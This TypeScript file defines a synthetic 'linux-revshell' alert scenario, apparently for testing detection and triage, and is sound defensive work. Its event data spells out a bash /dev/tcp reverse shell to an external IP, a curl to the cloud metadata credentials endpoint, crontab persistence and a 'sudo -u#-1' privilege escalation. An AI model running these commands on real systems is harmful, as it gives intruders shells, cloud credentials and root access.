/** Web server worker spawns a shell → reverse shell to an external IP:4444 → metadata query → crontab → sudo. */
import { endpointProcessStart, eventEcs, fileEcs, hostEcs, mergeEcs, networkEcs, processEcs, userEcs } from '../ecs';
import { SCENARIO_RULES as R } from '../rules';
import { HOUR, MINUTE, type Scenario } from './context';

export const REVSHELL_IP = '45.133.1.20';

export const linuxRevshellScenario: Scenario = {
  id: 'linux-revshell',
  story: 'A web server process spawns a shell, opens a reverse shell to port 4444, persists via crontab and abuses sudo.',
  verdict: 'true_positive',
  build(ctx) {
    const { prng, estate } = ctx;
    const host = ctx.takeHost('linux', 'lnx-web');
    const www = { name: 'www-data', id: '33', domain: '', fullName: 'www-data' };
    const t0 = ctx.now - 30 * HOUR + prng.int(0, 60) * MINUTE;
    const shellArgs = ['/bin/sh', '-c', `bash -i >& /dev/tcp/${REVSHELL_IP}/4444 0>&1`];
    const common = () => mergeEcs(hostEcs(host), userEcs(www));
    return {
      incident: 'linux-revshell-1',
      alerts: [
        {
          role: 'web-server-spawns-shell',
          rule: R.webShellSpawn,
          timestamp: t0,
          ecs: mergeEcs(
            common(),
            eventEcs(prng, endpointProcessStart({ action: 'exec' })),
            processEcs(prng, { name: 'sh', executable: '/bin/sh', args: shellArgs, workingDirectory: '/var/www/html/uploads', parent: { name: 'php-fpm8.1', executable: '/usr/sbin/php-fpm8.1', args: ['php-fpm: pool www'] } }),
          ),
        },
        {
          role: 'reverse-shell',
          rule: R.reverseShell,
          timestamp: t0 + 10_000,
          ecs: mergeEcs(
            common(),
            eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
            processEcs(prng, { name: 'bash', executable: '/usr/bin/bash', args: ['bash', '-i'], parent: { name: 'sh', executable: '/bin/sh', args: shellArgs } }),
            networkEcs({ sourceIp: host.ip, destinationIp: REVSHELL_IP, destinationPort: 4444, direction: 'egress', destinationGeo: { country: 'NL', city: 'Amsterdam' } }),
          ),
        },
        {
          role: 'metadata-credentials',
          rule: R.metadataByShell,
          timestamp: t0 + 3 * MINUTE,
          traps: [`destination.ip=${estate.traps.metadataIp}`],
          ecs: mergeEcs(
            common(),
            eventEcs(prng, { category: ['network'], type: ['connection'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
            processEcs(prng, { name: 'curl', executable: '/usr/bin/curl', args: ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'], parent: { name: 'bash', executable: '/usr/bin/bash' } }),
            networkEcs({ sourceIp: host.ip, destinationIp: estate.traps.metadataIp, destinationPort: 80, protocol: 'http', direction: 'egress' }),
          ),
        },
        {
          role: 'crontab-persistence',
          rule: R.cronPersistence,
          timestamp: t0 + 9 * MINUTE,
          ecs: mergeEcs(
            common(),
            eventEcs(prng, { category: ['file'], type: ['change'], action: 'modification', dataset: 'endpoint.events.file', module: 'endpoint' }),
            processEcs(prng, { name: 'crontab', executable: '/usr/bin/crontab', args: ['crontab', '/tmp/.c'], parent: { name: 'bash', executable: '/usr/bin/bash' } }),
            fileEcs(prng, '/var/spool/cron/crontabs/www-data'),
          ),
        },
        {
          role: 'sudo-abuse',
          rule: R.sudoAbuse,
          timestamp: t0 + 14 * MINUTE,
          ecs: mergeEcs(
            common(),
            eventEcs(prng, endpointProcessStart({ action: 'exec' })),
            processEcs(prng, { name: 'sudo', executable: '/usr/bin/sudo', args: ['sudo', '-u#-1', '/bin/bash'], parent: { name: 'bash', executable: '/usr/bin/bash' } }),
            { user: { effective: { name: 'root', id: '0' } } },
          ),
        },
      ],
    };
  },
};
